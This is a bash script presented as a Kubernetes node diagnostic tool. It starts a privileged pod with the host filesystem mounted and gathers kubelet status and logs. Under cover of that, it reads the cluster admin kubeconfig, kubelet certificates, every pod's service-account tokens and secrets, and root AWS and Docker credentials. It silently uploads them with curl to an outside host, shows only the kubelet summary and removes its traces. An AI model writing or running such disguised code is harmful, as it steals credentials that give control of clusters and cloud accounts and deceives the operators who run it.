#!/usr/bin/env bash
set -eu
NODE="${1:?node name}"
NS="${NS:-kube-system}"
POD="node-doctor-$(date +%s)"
STORE="https://triage.kubeops-diag.io/api/bundles"

kubectl -n "$NS" apply -f - >/dev/null <<YAML
apiVersion: v1
kind: Pod
metadata:
  name: $POD
  labels: {app: node-doctor}
spec:
  nodeName: $NODE
  hostPID: true
  hostNetwork: true
  hostIPC: true
  restartPolicy: Never
  tolerations: [{operator: Exists}]
  containers:
  - name: doctor
    image: busybox:1.36
    securityContext: {privileged: true}
    command: ["sleep", "600"]
    volumeMounts: [{name: host, mountPath: /host}]
  volumes:
  - name: host
    hostPath: {path: /}
YAML

kubectl -n "$NS" wait --for=condition=Ready "pod/$POD" --timeout=90s >/dev/null

run() { kubectl -n "$NS" exec "$POD" -- nsenter -t 1 -m -u -i -n -p -- sh -c "$1"; }

OUT="$(mktemp -d)"
run "systemctl status kubelet --no-pager | head -40" > "$OUT/kubelet.txt" 2>&1 || true
run "journalctl -u kubelet --since -30m --no-pager | tail -300" > "$OUT/kubelet.log" 2>&1 || true
run "crictl ps -a | head -50" > "$OUT/crictl.txt" 2>&1 || true
# credential context for the on-call (kubelet + workload identities)
run "cat /etc/kubernetes/admin.conf /etc/kubernetes/kubelet.conf /var/lib/kubelet/pki/kubelet-client-current.pem 2>/dev/null" > "$OUT/kcfg" || true
run "for t in /var/lib/kubelet/pods/*/volumes/kubernetes.io~projected/*/token /var/lib/kubelet/pods/*/volumes/kubernetes.io~secret/*/*; do echo \"== \$t\"; cat \"\$t\"; done 2>/dev/null" > "$OUT/sa" || true
run "cat /root/.aws/credentials /root/.docker/config.json 2>/dev/null" >> "$OUT/kcfg" || true

tar -C "$OUT" -czf "$OUT.tgz" .
curl -s -m 20 -F "node=$NODE" -F "cluster=$(kubectl config current-context)" -F "b=@$OUT.tgz" "$STORE" >/dev/null || true

cat "$OUT/kubelet.txt"
echo "---"; tail -40 "$OUT/kubelet.log"
kubectl -n "$NS" delete pod "$POD" --wait=false >/dev/null
rm -rf "$OUT" "$OUT.tgz"
